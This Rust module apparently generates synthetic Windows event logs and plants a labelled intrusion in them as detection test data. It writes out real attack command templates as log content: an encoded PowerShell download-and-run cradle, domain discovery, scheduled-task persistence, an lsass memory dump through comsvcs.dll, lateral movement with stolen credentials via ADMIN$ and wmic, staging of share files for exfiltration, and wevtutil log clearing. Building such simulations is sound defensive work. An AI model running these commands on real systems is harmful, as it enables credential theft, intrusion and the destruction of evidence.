//! The planted intrusion: a document from the mail, encoded PowerShell, discovery, a scheduled task, a service on a second host, cleared logs.
//!
//! Names, paths, times and the way each step is done are drawn from the seed, so that no single token gives it away; what stands out is the combination.

use super::errands::{install_service, register_task};
use super::estate::{DAY, Estate, HOUR, MINUTE, Role, SECOND, pick, random, word};
use super::host::{Account, HostLog, Label, Process, What};
use super::house::{self, Run};
use super::life::Life;
use super::tables::Tables;
use super::words::{guid_text, seldom, stamp};
use anyhow::{Context, Result};
use rand::RngExt;
use std::sync::Arc;

/// What the intruder will do, and where.
pub(super) struct Intrusion {
    /// Host whose user opens the document.
    pub(super) patient: usize,
    /// Server that is taken by a service.
    pub(super) target: usize,
    /// Another PC, taken through WMI, in larger estates.
    pub(super) second: Option<usize>,
    /// Day of the document, counted from the start.
    pub(super) day: i64,
    begin: i64,
    lateral: i64,
    clearing: i64,
    /// Person whose account is stolen.
    stolen: usize,
    document: String,
    word: String,
    /// File name of the implant, and its folder on the patient.
    implant: String,
    folder: &'static str,
    library: bool,
    server: String,
    task: String,
    service: String,
    service_file: String,
    way: u32,
}

impl Intrusion {
    /// Draws the plan from the estate's seed.
    pub(super) fn plan(tables: &Tables, estate: &Estate) -> Self {
        let mut rng = random(estate.seed, 2);
        let pcs: Vec<usize> =
            (0..estate.hosts.len()).filter(|index| estate.hosts[*index].role == Role::Pc && !estate.users[estate.hosts[*index].owner].admin).collect();
        let pcs = if pcs.is_empty() { vec![estate.hosts.len() - 1] } else { pcs };
        let patient = *pick(&mut rng, &pcs);
        let others: Vec<usize> = pcs.iter().copied().filter(|pc| *pc != patient).collect();
        let second = if others.len() > 1 { Some(*pick(&mut rng, &others)) } else { None };
        let servers: Vec<usize> = (1..estate.hosts.len()).filter(|index| estate.hosts[*index].role == Role::File).collect();
        let target = if servers.is_empty() { 0 } else { *pick(&mut rng, &servers) };
        let workdays = estate.workdays();
        let day = workdays[(workdays.len() * 3 / 5).min(workdays.len() - 1)];
        let midnight = estate.start + day * DAY - estate.offset;
        let begin = midnight + 9 * HOUR + rng.random_range(0..5 * 60) * MINUTE + rng.random_range(0..MINUTE);
        let lateral = begin + rng.random_range(50..140) * MINUTE;
        let admin = estate.admin_account(&mut rng).name.clone();
        let syllables = seldom(&mut rng);
        let capital = syllables.get(..1).unwrap_or("X").to_uppercase() + syllables.get(1..).unwrap_or("");
        let implant = match rng.random_range(0..5u32) {
            0 => format!("{capital}{}", word(&mut rng, &["Update", "Helper", "Sync", "Service", "Agent"])),
            1 => format!("{syllables}{}", word(&mut rng, &["svc", "host", "upd", "mgr"])),
            2 => (word(&mut rng, &["OneDriveSetupHelper", "TeamsMachineUpdater", "AcroUpdateBroker", "EdgeWebHost", "OfficeTelemetryHost"])).to_owned(),
            3 => (word(&mut rng, &["msedgeupd", "winlogsvc", "dllhst", "svchosts", "taskhosts", "spoolsrv"])).to_owned(),
            _ => format!("{capital}{}", rng.random_range(2..64)),
        };
        let topics = &tables.words.topics;
        Self {
            patient,
            target,
            second,
            day,
            begin,
            lateral,
            clearing: lateral + rng.random_range(40..150) * MINUTE,
            stolen: estate.users.iter().position(|user| user.name == admin).unwrap_or(0),
            document: format!("{} {}", pick(&mut rng, topics), rng.random_range(1000..99_999)),
            folder: word(
                &mut rng,
                &[
                    r"{home}\AppData\Roaming\{word}",
                    r"{home}\AppData\Local\{word}",
                    r"C:\ProgramData\{word}",
                    r"C:\Users\Public\{word}",
                    r"C:\Windows\Temp",
                    r"{home}\AppData\Local\Temp",
                ],
            ),
            library: rng.random_bool(0.35),
            server: format!(
                "{}{}.{}",
                word(&mut rng, &["cdn-", "api.", "static.", "", "sync."]),
                seldom(&mut rng),
                word(&mut rng, &["com", "net", "info", "top", "cloud", "org"])
            ),
            task: match rng.random_range(0..4u32) {
                0 => format!(
                    r"\Microsoft\Windows\{}\{}",
                    word(&mut rng, &["Shell", "Maintenance", "Wininet", "DiskCleanup", "WDI"]),
                    word(&mut rng, &["CacheCheck", "IndexTask", "ProfileSync", "StateRefresh"])
                ),
                1 => format!(r"\{capital} Update Task"),
                2 => format!(r"\{}UpdateTaskUser{}", word(&mut rng, &["Google", "OneDrive", "Adobe", "Zoom"]), rng.random_range(10..99)),
                _ => format!(r"\{capital}"),
            },
            service: match rng.random_range(0..3u32) {
                0 => (0..8).map(|_| char::from(rng.random_range(b'a'..=b'z'))).collect(),
                1 => format!("{}{}", word(&mut rng, &["Win", "Net", "Dist", "Sys"]), word(&mut rng, &["DefSvc", "TraceSvc", "CacheSvc", "MonSvc"])),
                _ => format!("{capital}Svc"),
            },
            service_file: (0..7).map(|_| char::from(rng.random_range(b'a'..=b'z'))).collect::<String>() + ".exe",
            word: capital,
            implant,
            way: rng.random_range(0..5),
        }
    }

    /// Adds what the intruder does on this host to its log.
    pub(super) fn strike(&self, log: &mut HostLog<'_>, life: &mut Life, host: usize) -> Result<()> {
        if host == self.patient {
            self.patient(log, life)?;
        }
        if host == self.target {
            self.target(log, life)?;
        }
        if Some(host) == self.second {
            self.second(log, life)?;
        }
        if host == 0 {
            // The domain controller sees tickets like any others: neither attack nor ordinary.
            log.label = Label::Ignore;
            let user = log.estate.users[self.stolen].clone();
            let ip = log.estate.hosts[self.patient].ip.clone();
            house::ticket(log, self.lateral - 2 * SECOND, &user, &ip, true)?;
        }
        log.label = Label::Ordinary;
        Ok(())
    }

    fn patient(&self, log: &mut HostLog<'_>, life: &mut Life) -> Result<()> {
        let session = life.sessions.iter().position(|session| session.from < self.begin && self.begin < session.to).context("the patient is not at work")?;
        let (account, until, boot) = (life.sessions[session].account.clone(), life.sessions[session].to, life.sessions[session].boot);
        let outlook = self.mail_program(log, life, session)?;
        let office = self.document(log, &outlook, &account, until)?;
        log.label = Label::Attack;
        let shell = self.macro_runs(log, &life.boots[boot], &office, &account)?;
        let (implant, path) = self.implant_arrives(log, &shell, &account)?;
        self.beacons(log, &implant, self.begin + 2 * MINUTE, until, 18)?;
        Self::discovery(log, &implant, self.begin + 4 * MINUTE, 6)?;
        let scheduler = life.boots[boot].processes["svchost:Schedule"].process.pid;
        self.persistence(log, &implant, &path, scheduler, &account)?;
        self.credentials(log, life, boot, &implant)?;
        self.reach_out(log, &implant, &account)?;
        self.clear(log, &implant, &account, false)?;
        log.end((self.clearing + 20 * MINUTE).min(until), &implant)?;
        self.task_runs(log, life, &path, boot)
    }

    fn mail_program(&self, log: &mut HostLog<'_>, life: &Life, session: usize) -> Result<Arc<Process>> {
        let session = &life.sessions[session];
        if let Some(outlook) = session.processes.get("outlook").filter(|living| living.from < self.begin) {
            return Ok(outlook.process.clone());
        }
        let explorer = session.processes.get("explorer").context("launches.tsv: nobody starts explorer")?.process.clone();
        let command = r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" "#;
        log.start(self.begin - 30 * MINUTE, &explorer, &What::Known("outlook"), command, &session.account, "Medium")
    }

    /// Outlook saves the attachment and Word or Excel opens it.
    fn document(&self, log: &mut HostLog<'_>, outlook: &Arc<Process>, account: &Arc<Account>, until: i64) -> Result<Arc<Process>> {
        log.label = Label::Ignore;
        let sheet = self.way % 2 == 1;
        let (program, extension, exe) = if sheet { ("excel", "xlsm", "EXCEL.EXE") } else { ("winword", "docm", "WINWORD.EXE") };
        let folder = log.fill(r"{home}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{id8}", account, "", self.begin);
        let file = format!(r"{folder}\{}.{extension}", self.document);
        log.write_file(self.begin - 9 * SECOND, outlook, &file)?;
        let switch = if sheet { String::new() } else { "/n ".to_owned() };
        let command = format!("\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\{exe}\" {switch}\"{file}\"{}", if sheet { "" } else { " /o \"\"" });
        let office = log.start(self.begin - 8 * SECOND, outlook, &What::Known(program), &command, account, "Medium")?;
        log.load(self.begin - 4 * SECOND, &office, r"C:\Program Files\Common Files\Microsoft Shared\VBA\VBA7.1\VBE7.DLL", true)?;
        log.load(self.begin - 4 * SECOND, &office, r"C:\Windows\System32\wbem\wbemprox.dll", true)?;
        log.end((self.begin + 17 * MINUTE).min(until), &office)?;
        Ok(office)
    }

    /// From the macro to encoded PowerShell, in one of several ways.
    fn macro_runs(&self, log: &mut HostLog<'_>, boot: &super::life::Boot, office: &Arc<Process>, account: &Arc<Account>) -> Result<Arc<Process>> {
        let script = format!(
            "$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');$p=Join-Path $env:{} '{}';$c.DownloadFile('https://{}/{}',$p);Start-Process $p",
            if self.folder.contains("ProgramData") { "ProgramData" } else { "TEMP" },
            self.implant,
            self.server,
            self.word.to_lowercase()
        );
        let encoded = base64(&script);
        let switches = word(
            &mut log.rng,
            &["-nop -w hidden -enc", "-NoP -NonI -W Hidden -Exec Bypass -Enc", "-noprofile -windowstyle hidden -EncodedCommand", "-ep bypass -w 1 -e"],
        );
        let command = format!("powershell.exe {switches} {encoded}");
        let (parent, time) = match self.way {
            0 => (office.clone(), self.begin),
            1 => (log.start(self.begin, office, &What::Known("cmd"), &format!("cmd.exe /c {command}"), account, "Medium")?, self.begin + SECOND / 6),
            2 => {
                // The provider host that the macro's WMI call runs in is Windows's own.
                log.label = Label::Ignore;
                let network = log.account("network");
                let dcom = boot.processes["svchost:DcomLaunch"].process.clone();
                let provider = log.start(
                    self.begin - 40 * SECOND,
                    &dcom,
                    &What::Known("wmiprvse"),
                    r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
                    &network,
                    "System",
                )?;
                log.label = Label::Attack;
                (provider, self.begin)
            }
            3 => {
                let file = log.fill(r"{home}\AppData\Local\Temp\{id6}.dll", account, "", self.begin);
                log.write_file(self.begin - SECOND, office, &file)?;
                let (program, line) = *pick(&mut log.rng, &[("rundll32", "rundll32.exe {file},Start"), ("regsvr32", "regsvr32.exe /s {file}")]);
                let host = log.start(self.begin, office, &What::Known(program), &line.replace("{file}", &file), account, "Medium")?;
                log.load(self.begin + SECOND / 5, &host, &file, false)?;
                (host, self.begin + SECOND)
            }
            _ => {
                let file = log.fill(r"{home}\AppData\Local\Temp\{id6}.cmd", account, "", self.begin);
                log.write_file(self.begin - SECOND, office, &file)?;
                (
                    log.start(self.begin, office, &What::Known("cmd"), &format!("C:\\Windows\\system32\\cmd.exe /c \"\"{file}\" \""), account, "Medium")?,
                    self.begin + SECOND / 3,
                )
            }
        };
        let shell = log.start(time, &parent, &What::Known("powershell"), &command, account, "Medium")?;
        log.engine(&shell, time + 40 * SECOND, Some(&script))?;
        Ok(shell)
    }

    fn implant_arrives(&self, log: &mut HostLog<'_>, shell: &Arc<Process>, account: &Arc<Account>) -> Result<(Arc<Process>, String)> {
        log.ask(self.begin + 3 * SECOND, shell, &self.server)?;
        log.connect(self.begin + 3 * SECOND, shell, &self.server, 443)?;
        let folder = log.fill(&self.folder.replace("{word}", &self.word), account, "", self.begin);
        let extension = if self.library { "dll" } else { "exe" };
        let path = format!(r"{folder}\{}.{extension}", self.implant);
        log.write_file(self.begin + 9 * SECOND, shell, &path)?;
        let time = self.begin + 11 * SECOND;
        let command = self.command(&path);
        let implant = if self.library {
            let host = log.start(time, shell, &What::Known("rundll32"), &command, account, "Medium")?;
            log.load(time + SECOND / 4, &host, &path, false)?;
            host
        } else {
            log.start(time, shell, &What::Foreign { path: &path, description: "-", company: "-" }, &command, account, "Medium")?
        };
        log.end(self.begin + 40 * SECOND, shell)?;
        Ok((implant, path))
    }

    fn command(&self, path: &str) -> String {
        if self.library { format!("rundll32.exe {path},#1") } else { format!("\"{path}\"") }
    }

    /// Calls home at odd intervals.
    fn beacons(&self, log: &mut HostLog<'_>, implant: &Process, from: i64, until: i64, most: usize) -> Result<()> {
        let mut time = from;
        for turn in 0..most {
            if time >= until {
                break;
            }
            if turn % 4 == 0 {
                log.ask(time - SECOND / 10, implant, &self.server)?;
            }
            log.connect(time, implant, &self.server, 443)?;
            time += log.rng.random_range(4..22) * MINUTE;
        }
        Ok(())
    }

    /// A burst of questions about the host and the domain.
    fn discovery(log: &mut HostLog<'_>, implant: &Arc<Process>, from: i64, least: usize) -> Result<()> {
        let mut questions = vec![
            ("whoami", "whoami /all"),
            ("net", "net group \"Domain Admins\" /domain"),
            ("net", "net user /domain"),
            ("net", "net localgroup administrators"),
            ("nltest", "nltest /domain_trusts /all_trusts"),
            ("nltest", "nltest /dclist:"),
            ("ipconfig", "ipconfig /all"),
            ("tasklist", "tasklist /svc"),
            ("systeminfo", "systeminfo"),
            ("netstat", "netstat -ano"),
            ("arp", "arp -a"),
            ("quser", "quser"),
            ("net", "net view /all /domain"),
            ("wmic", "wmic /namespace:\\\\root\\securitycenter2 path antivirusproduct get displayname"),
            ("reg", "reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall"),
        ];
        let mut time = from;
        let account = implant.account.clone();
        let through_shell = log.rng.random_bool(0.6);
        for _ in 0..least + log.rng.random_range(0..5usize) {
            if questions.is_empty() {
                break;
            }
            let (program, question) = questions.swap_remove(log.rng.random_range(0..questions.len()));
            time += log.rng.random_range(2..45) * SECOND;
            let mut parent = implant.clone();
            if through_shell {
                parent =
                    log.start(time, implant, &What::Known("cmd"), &format!("C:\\Windows\\system32\\cmd.exe /c {question}"), &account, implant.integrity)?;
            }
            let asked = log.start(time + SECOND / 8, &parent, &What::Known(program), question, &account, implant.integrity)?;
            if program == "net" {
                let inner = log.start(
                    time + SECOND / 6,
                    &asked,
                    &What::Known("net1"),
                    &question.replacen("net ", "C:\\Windows\\system32\\net1 ", 1),
                    &account,
                    implant.integrity,
                )?;
                log.end(time + SECOND, &inner)?;
            }
            log.end(time + SECOND, &asked)?;
            if through_shell {
                log.end(time + SECOND, &parent)?;
            }
        }
        Ok(())
    }

    fn persistence(&self, log: &mut HostLog<'_>, implant: &Arc<Process>, path: &str, scheduler: u32, account: &Arc<Account>) -> Result<()> {
        let time = self.begin + log.rng.random_range(16..30) * MINUTE;
        let run = self.command(path);
        let when = word(&mut log.rng, &["/sc onlogon", "/sc daily /st 10:30", "/sc hourly /mo 4", "/sc minute /mo 90"]);
        let command = format!("schtasks /create /f /tn \"{}\" /tr \"{}\" {when}", self.task.trim_start_matches('\\'), run.replace('"', "\\\""));
        let creator = log.start(time, implant, &What::Known("schtasks"), &command, account, "Medium")?;
        register_task(log, time + SECOND / 2, scheduler, &self.task, &run, account)?;
        log.end(time + SECOND, &creator)
    }

    /// The task brings the implant back: an hour later and on the next days.
    fn task_runs(&self, log: &mut HostLog<'_>, life: &Life, path: &str, boot: usize) -> Result<()> {
        let command = self.command(path);
        let mut moments = vec![self.begin + 95 * MINUTE];
        for session in life.sessions.iter().filter(|session| session.from > self.begin + 8 * HOUR).take(3) {
            moments.push(session.from + log.rng.random_range(90..400) * SECOND);
        }
        for time in moments {
            let Some(session) = life.sessions.iter().find(|session| session.from < time && time < session.to) else { continue };
            let account = session.account.clone();
            let boot = if time < self.begin + 3 * HOUR { boot } else { session.boot };
            let scheduler = life.boots[boot].processes["svchost:Schedule"].process.clone();
            house::run_task(log, &Run { name: &self.task, action: path, program: None, command: &command, boot, until: session.to }, life, time, &account)?;
            let what = if self.library { What::Known("rundll32") } else { What::Foreign { path, description: "-", company: "-" } };
            let again = log.start(time + SECOND / 12, &scheduler, &what, &command, &account, "Medium")?;
            self.beacons(log, &again, time + 5 * SECOND, session.to, 6)?;
            log.end(session.to.min(time + 2 * HOUR), &again)?;
        }
        Ok(())
    }

    /// Reads passwords from the memory of lsass.
    fn credentials(&self, log: &mut HostLog<'_>, life: &Life, boot: usize, implant: &Arc<Process>) -> Result<()> {
        let time = self.begin + 33 * MINUTE;
        let lsass = life.boots[boot].processes["lsass"].process.clone();
        let account = implant.account.clone();
        let dump = format!(r"C:\Windows\Temp\{}.{}", seldom(&mut log.rng), word(&mut log.rng, &["tmp", "log", "dat", "bin"]));
        let (reader, access) = if log.rng.random_bool(0.5) {
            let command = format!(r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {} {dump} full", lsass.pid);
            (log.start(time, implant, &What::Known("rundll32"), &command, &account, "High")?, 0x1f_ffffu32)
        } else {
            (implant.clone(), 0x1410)
        };
        let thread = log.rng.random_range(100..4000u32) * 4;
        let fields = vec![
            "-".into(),
            stamp(time + SECOND).into(),
            reader.guid.into(),
            reader.pid.into(),
            thread.into(),
            (&reader.image).into(),
            lsass.guid.into(),
            lsass.pid.into(),
            (&lsass.image).into(),
            access.into(),
            r"C:\Windows\SYSTEM32\ntdll.dll+9d584|C:\Windows\System32\KERNELBASE.dll+2726e|UNKNOWN(00000203A6B10000)".into(),
            (&reader.account.shown).into(),
            "NT AUTHORITY\\SYSTEM".into(),
        ];
        log.row(time + SECOND, "sysmon_access", 2600, None, fields)?;
        log.write_file(time + 3 * SECOND, &reader, &dump)?;
        if reader.guid != implant.guid {
            log.end(time + 4 * SECOND, &reader)?;
        }
        Ok(())
    }

    /// From the patient to the other hosts, with the stolen account.
    fn reach_out(&self, log: &mut HostLog<'_>, implant: &Arc<Process>, account: &Arc<Account>) -> Result<()> {
        let stolen = log.estate.users[self.stolen].clone();
        let hosts = [Some(self.target), self.second];
        for (turn, index) in hosts.into_iter().flatten().enumerate() {
            let host = log.estate.hosts[index].clone();
            let time = self.lateral + turn as i64 * 14 * MINUTE;
            let mut fields = HostLog::subject(account);
            fields.extend([
                [0; 16].into(),
                stolen.name.as_str().into(),
                log.estate.domain.as_str().into(),
                [0; 16].into(),
                host.computer.as_ref().into(),
                host.computer.as_ref().into(),
                u64::from(implant.pid).into(),
                (&implant.image).into(),
                "-".into(),
                "-".into(),
            ]);
            log.row(time - SECOND, "logon_explicit", 700, None, fields)?;
            log.connect(time - SECOND, implant, &host.name, 445)?;
            if turn == 0 && log.rng.random_bool(0.5) {
                let command = format!(
                    r"net use \\{}\ADMIN$ /user:{}\{} {}",
                    host.name,
                    log.estate.domain,
                    stolen.name,
                    guid_text(log.rng.random()).get(1..13).unwrap_or("")
                );
                let net = log.start(time - 20 * SECOND, implant, &What::Known("net"), &command, account, "Medium")?;
                log.end(time - 19 * SECOND, &net)?;
            }
            if turn == 1 {
                log.connect(time, implant, &host.name, 135)?;
                let command = format!(
                    r#"wmic /node:{} /user:{}\{} process call create "{}""#,
                    host.name,
                    log.estate.domain,
                    stolen.name,
                    self.second_command().replace('"', "\\\"")
                );
                let wmic = log.start(time, implant, &What::Known("wmic"), &command, account, "Medium")?;
                log.end(time + 3 * SECOND, &wmic)?;
            }
        }
        Ok(())
    }

    /// The stolen account arrives over the network.
    fn arrive(&self, log: &mut HostLog<'_>, time: i64) -> Result<(Arc<Account>, String)> {
        let account = log.logon(self.stolen, 0);
        let ip = log.estate.hosts[self.patient].ip.clone();
        let system = log.account("system");
        log.logon_row(time, &system, &account, 3, "-", &ip)?;
        log.privileges(time, &account)?;
        Ok((account, ip))
    }

    fn target(&self, log: &mut HostLog<'_>, life: &Life) -> Result<()> {
        let time = self.lateral;
        let Some(boot) = life.boots.iter().rev().find(|boot| boot.from < time) else { return Ok(()) };
        let (services, kernel) = (boot.processes["services"].process.clone(), boot.processes["system"].process.clone());
        log.label = Label::Attack;
        let (account, ip) = self.arrive(log, time)?;
        log.share(time + SECOND / 3, &account, &ip, "ADMIN$", r"\??\C:\Windows")?;
        let mut fields = HostLog::subject(&account);
        fields.extend([
            "File".into(),
            ip.as_str().into(),
            "51844".into(),
            r"\\*\ADMIN$".into(),
            r"\??\C:\Windows".into(),
            self.service_file.as_str().into(),
            0x2u32.into(),
            "%%4417\n\t\t\t\t".into(),
            "-".into(),
        ]);
        log.row(time + SECOND / 2, "share_file", 4, None, fields)?;
        let path = format!(r"C:\Windows\{}", self.service_file);
        log.write_file(time + SECOND / 2, &kernel, &path)?;
        install_service(log, time + SECOND, &self.service, &format!(r"%SystemRoot%\{}", self.service_file), &account, "demand start")?;
        let system = log.account("system");
        let implant = log.start(time + 2 * SECOND, &services, &What::Foreign { path: &path, description: "-", company: "-" }, &path, &system, "System")?;
        house::state(log, time + 2 * SECOND, &self.service, &self.service, "running")?;
        self.beacons(log, &implant, time + 20 * SECOND, self.clearing, 8)?;
        Self::discovery(log, &implant, time + 3 * MINUTE, 3)?;
        self.stage(log, &implant)?;
        self.clear(log, &implant, &system, true)?;
        log.end(self.clearing + 3 * MINUTE, &implant)?;
        log.logoff_row(self.clearing + 3 * MINUTE, &account, 3)
    }

    /// Packs files up and sends them away.
    fn stage(&self, log: &mut HostLog<'_>, implant: &Arc<Process>) -> Result<()> {
        let time = self.lateral + 25 * MINUTE;
        let archive = format!(r"C:\ProgramData\{}.{}", seldom(&mut log.rng), word(&mut log.rng, &["zip", "7z", "cab", "dat"]));
        let account = implant.account.clone();
        let share = word(&mut log.rng, &["finance", "projects", "hr"]);
        let (program, command) = if log.rng.random_bool(0.5) {
            ("powershell", format!(r"powershell -nop -c Compress-Archive -Path E:\Shares\{share} -DestinationPath {archive}"))
        } else {
            (
                "cmd",
                format!(
                    r"cmd.exe /c robocopy E:\Shares\{share} C:\ProgramData\{} *.xlsx *.pdf /S /MAXAGE:180 & tar -caf {archive} C:\ProgramData\{}",
                    self.word, self.word
                ),
            )
        };
        let packer = log.start(time, implant, &What::Known(program), &command, &account, "System")?;
        log.write_file(time + 8 * SECOND, &packer, &archive)?;
        if program == "powershell" {
            log.engine(&packer, time + 90 * SECOND, None)?;
        }
        log.end(time + 90 * SECOND, &packer)?;
        for turn in 0..3 {
            log.connect(time + (3 + turn) * MINUTE, implant, &self.server, 443)?;
        }
        Ok(())
    }

    /// Clears the Security log, on servers System too. The records before it are kept: they had been forwarded.
    fn clear(&self, log: &mut HostLog<'_>, implant: &Arc<Process>, by: &Arc<Account>, both: bool) -> Result<()> {
        let time = if both { self.clearing } else { self.clearing + 9 * MINUTE };
        let logs: &[&str] = if both { &["Security", "System"] } else { &["Security"] };
        for (turn, name) in logs.iter().enumerate() {
            let moment = time + turn as i64 * 2 * SECOND;
            let tool = log.start(
                moment,
                implant,
                &What::Known("wevtutil"),
                &format!("wevtutil{} cl {name}", if self.way.is_multiple_of(2) { "" } else { ".exe" }),
                by,
                implant.integrity,
            )?;
            if *name == "Security" {
                log.row(moment + SECOND / 3, "log_cleared", 900, None, HostLog::subject(by))?;
            } else {
                log.row(moment + SECOND / 3, "log_cleared_system", 900, None, vec![(&by.name).into(), (&by.domain).into(), (*name).into(), "".into()])?;
            }
            log.end(moment + SECOND, &tool)?;
        }
        Ok(())
    }

    fn second_command(&self) -> String {
        format!(r"cmd.exe /c start /b C:\Users\Public\{}.exe", self.implant)
    }

    /// Another PC, through WMI.
    fn second(&self, log: &mut HostLog<'_>, life: &Life) -> Result<()> {
        let time = self.lateral + 14 * MINUTE + 2 * SECOND;
        let Some(boot) = life.boots.iter().rev().find(|boot| boot.from < time && time < boot.to) else { return Ok(()) };
        let (dcom, kernel) = (boot.processes["svchost:DcomLaunch"].process.clone(), boot.processes["system"].process.clone());
        log.label = Label::Ignore;
        let network = log.account("network");
        let provider =
            log.start(time - 9 * SECOND, &dcom, &What::Known("wmiprvse"), r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", &network, "System")?;
        log.label = Label::Attack;
        let (account, ip) = self.arrive(log, time - 5 * SECOND)?;
        log.share(time - 4 * SECOND, &account, &ip, "C$", r"\??\C:\")?;
        let path = format!(r"C:\Users\Public\{}.exe", self.implant);
        log.write_file(time - 3 * SECOND, &kernel, &path)?;
        let shell = log.start(time, &provider, &What::Known("cmd"), &self.second_command(), &account, "High")?;
        let implant = log.start(time + SECOND / 2, &shell, &What::Foreign { path: &path, description: "-", company: "-" }, &path, &account, "High")?;
        log.end(time + SECOND, &shell)?;
        self.beacons(log, &implant, time + 20 * SECOND, boot.to.min(time + 3 * HOUR), 8)?;
        Self::discovery(log, &implant, time + 2 * MINUTE, 3)?;
        log.end(boot.to.min(time + 3 * HOUR), &implant)
    }
}

/// Base64 of the text in UTF-16, as `-EncodedCommand` wants it.
fn base64(text: &str) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut out = String::new();
    for three in bytes.chunks(3) {
        let word = three.iter().fold(0u32, |word, byte| word << 8 | u32::from(*byte)) << (8 * (3 - three.len()));
        for place in 0..4 {
            out.push(if place <= three.len() { char::from(LETTERS[(word >> (18 - 6 * place)) as usize & 63]) } else { '=' });
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encoded_commands_are_base64_of_utf16() {
        assert_eq!(base64("dir"), "ZABpAHIA");
        assert_eq!(base64("ls"), "bABzAA==");
        assert_eq!(base64("a"), "YQA=");
    }
}
